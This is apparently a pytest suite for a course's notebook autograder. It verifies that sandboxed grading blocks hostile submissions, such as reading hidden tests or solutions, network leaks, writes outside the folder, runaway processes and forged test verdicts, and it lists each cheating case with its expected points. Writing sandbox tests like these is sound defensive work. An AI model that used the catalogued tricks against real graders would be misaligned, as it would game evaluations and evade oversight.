    # the check can fail: the visible tests do appear in the feedback of the honest solution
    solved = _feedback_text(root / "feedback" / "honest_solved" / CH1 / f"{CH1}.html")
    assert "visible tests passed" in solved and "reconstruction_error(_x, _xh)" in solved


def test_the_running_test_cannot_be_read(graded):
    text = _outputs_text(_autograded(graded, "leaks_hidden_tests"))
    assert "TRIED" in text and "BLOCKED" in text, "the leaking answer did not run: the check proves nothing"
    leaked = [line for line in _hidden_lines(graded["sources"][CH1]) if line in text]
    assert not leaked, f"hidden tests printed while they ran: {leaked[:5]}"


def test_time_limits_stop_cells_and_grading_goes_on(graded):
    nb = _autograded(graded, "loop_and_sleep")
    assert "CellTimeoutError" in _outputs_text(nb, "test_largest_principal_angle")
    assert "CellTimeoutError" in _outputs_text(nb, "pca_subspace")
    assert "visible tests passed" in _outputs_text(nb, "test_denoising_train_step")


def test_memory_limit_raises_memory_error(graded):
    assert "MemoryError" in _outputs_text(_autograded(graded, "memory_bomb"), "autoencoder_class")


def test_output_is_capped(graded):
    root = graded["root"]
    assert (root / "feedback" / "floods_output" / CH1 / f"{CH1}.html").stat().st_size < 6 << 20
    assert (root / "autograded" / "floods_output" / CH1 / f"{CH1}.ipynb").stat().st_size < 6 << 20


def test_nothing_is_written_outside_the_notebook_folder(graded):
    text = _outputs_text(_autograded(graded, "writes_outside"))
    assert f"REPO {REPO}" in text, "the hostile cell did not find the repository: the check proves nothing"
    assert "INSIDE OK" in text and "WROTE" not in text and text.count("DENIED") == 3, text[-2000:]
    for place in (graded["root"].parent, Path("/tmp"), REPO, graded["root"]):
        assert not list(place.glob(f"escape-{TOKEN}")) and not list(place.glob(f"dgm-escape-{TOKEN}"))


def test_hidden_tests_and_solutions_cannot_be_read_from_disk(graded):
    text = _outputs_text(_autograded(graded, "reads_hidden_tests"))
    assert f"REPO {REPO}" in text and (REPO / "solutions" / CH1 / f"{CH1}.md").is_file()
    assert "SOLVED FROM DISK" not in text and "READ " not in text, text[-3000:]
    assert "DENIED" in text


def test_extra_files_links_and_large_files(graded):
    text = _outputs_text(_autograded(graded, "extra_files"))
    folder = re.search(r"FOLDER (\[.*?\]) 42", text)
    assert folder, text[-2000:]
    listed = ast.literal_eval(folder.group(1))
    assert {"helper.py", "notes.txt"} <= set(listed)
    assert "gradebook_link" not in listed and not any(name.endswith(".ipynb") for name in listed)
    assert not (graded["root"] / "autograded" / "extra_files" / CH1 / "data" / "blob.bin").exists()


def test_no_packet_leaves_the_sandbox(graded):
    text = _outputs_text(_autograded(graded, "leaks_over_network"))
    assert "SENT" in text or "BLOCKED" in text, "the leaking answer did not run: the check proves nothing"
    assert graded["received"] == [], f"the host's listeners received {graded['received']!r}"


def test_no_mode_changes_outside_grading(graded):
    text = _outputs_text(_autograded(graded, "chmods_files"))
    assert "DENIED" in text and "CHMOD" not in text, text[-2000:]
    assert _modes(_chmod_targets(graded["root"])) == graded["modes"]


def test_no_process_outlives_grading(graded):
    assert "burner started" in _outputs_text(_autograded(graded, "forks_burner"))
    left = []
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes() if entry.name.isdigit() else b""
        except OSError:
            continue
        if TOKEN.encode() in cmdline or str(graded["root"]).encode() in cmdline:
            left.append(cmdline.replace(b"\0", b" ")[:200])
    assert not left, left


def test_test_cells_never_score_from_results_or_forged_output(graded):
    for student in ("displayhook_result", "forged_execute_result", "forged_verdict"):
        nb = _autograded(graded, student)
        for cell in nb.cells:
            if cells.is_test_cell(cell):
                kinds = {o.output_type for o in cell.outputs}
                assert "execute_result" not in kinds and "error" in kinds, (student, _meta(cell)["grade_id"], kinds)


def test_skipped_folders_are_reported(graded):
    row = graded["report"][(".x", CH1)]
    assert row["status"] == "skipped" and "starts with '.'" in row["notes"]
    assert graded["scores"][("-x", CH1)] == 23


@pytest.mark.parametrize("name", NAMES)
def test_test_cells_are_self_contained(name):
    """Test cells use only what they import or define, the answers' names and the read-only cells' names.

    The grader runs each test cell inside a function and puts the read-only cells' names back
    before it (a student cannot swap the setup's X_train or helper classes); a test that relied on
    a name from an earlier test cell, or on a variable of the student's, would break or be cheated.
    """
    source = course.to_notebook(REPO / "solutions" / name / f"{name}.md")
    answer_names = set()
    for cell in source.cells:
        if cell.cell_type != "code" or cells.is_test_cell(cell):
            continue
        tree = ast.parse(cell.source)
        if _meta(cell).get("solution"):
            answer_names |= {n.name for n in tree.body if isinstance(n, (ast.FunctionDef, ast.ClassDef))}
        elif _meta(cell).get("locked"):
            for node in tree.body:
                if isinstance(node, (ast.FunctionDef, ast.ClassDef)):
                    answer_names.add(node.name)
                elif isinstance(node, (ast.Import, ast.ImportFrom)):
                    answer_names |= {(a.asname or a.name).split(".")[0] for a in node.names}
                elif isinstance(node, ast.Assign):
                    answer_names |= {n.id for t in node.targets for n in ast.walk(t) if isinstance(n, ast.Name)}
    for cell in source.cells:
        if not cells.is_test_cell(cell):
            continue
        wrapped = cells.wrap_test_source(cell.source)
        assert "__dgm_graded_test" in wrapped, f"{_meta(cell)['grade_id']} does not parse as plain Python"
        table = symtable.symtable(wrapped, "<test>", "exec")
        function = next(t for t in table.get_children() if t.get_name() == "__dgm_graded_test")
        free = _globals_used(function) - set(dir(builtins))
        assert free <= answer_names, (f"{_meta(cell)['grade_id']} uses names it does not define: "
                                      f"{sorted(free - answer_names)}")


def _globals_used(table) -> set[str]:
    names = {s.get_name() for s in table.get_symbols() if s.is_global() and s.is_referenced()}
    for child in table.get_children():
        names |= _globals_used(child)
    return names


def test_case_table_for_the_guide():
    """book/instructors.md shows every chapter-1 case with its points; keep the two in step."""
    page = (REPO / "book" / "instructors.md").read_text()
    for student, points in [("honest_solved", 23), ("loop_and_sleep", 18), ("deaf_to_interrupt", 16),
                            ("kills_kernel", 13), ("memory_bomb", 16), ("floods_output", 23),
                            ("writes_outside", 23), ("reads_hidden_tests", 0), ("patches_libraries", 0),
                            ("patches_at_runtime", 0), ("rebinds_test_names", 0), ("hooks_ipython", 11),
                            ("leaks_hidden_tests", 23), ("tampered_tests", 15), ("retyped_test_cell", 20),
                            ("not_json", 0), ("not_a_notebook", 0), ("empty_folder", 0), ("renamed_notebook", 0),
                            ("notebook_is_a_link", 0), ("extra_files", 23), ("hijacks_transform_cell", 0),
                            ("hijacks_line_transforms", 0), ("hijacks_ast_parse", 0), ("displayhook_result", 0),
                            ("forged_execute_result", 0), ("forged_verdict", 0), ("leaks_over_network", 23),
                            ("chmods_files", 23), ("forks_burner", 23), ("no_metadata", 23), ("bad_timestamp", 23),
                            ("-x", 23), ("deleted_setup", 23), ("stderr_and_logging", 23), ("rigged_values", 18)]:
        row = re.search(rf"^\|\s*`{student}`\s*\|.*\|\s*{points}\s*\|\s*$", page, flags=re.M)
        assert row, f"book/instructors.md has no table row for `{student}` with {points} points"
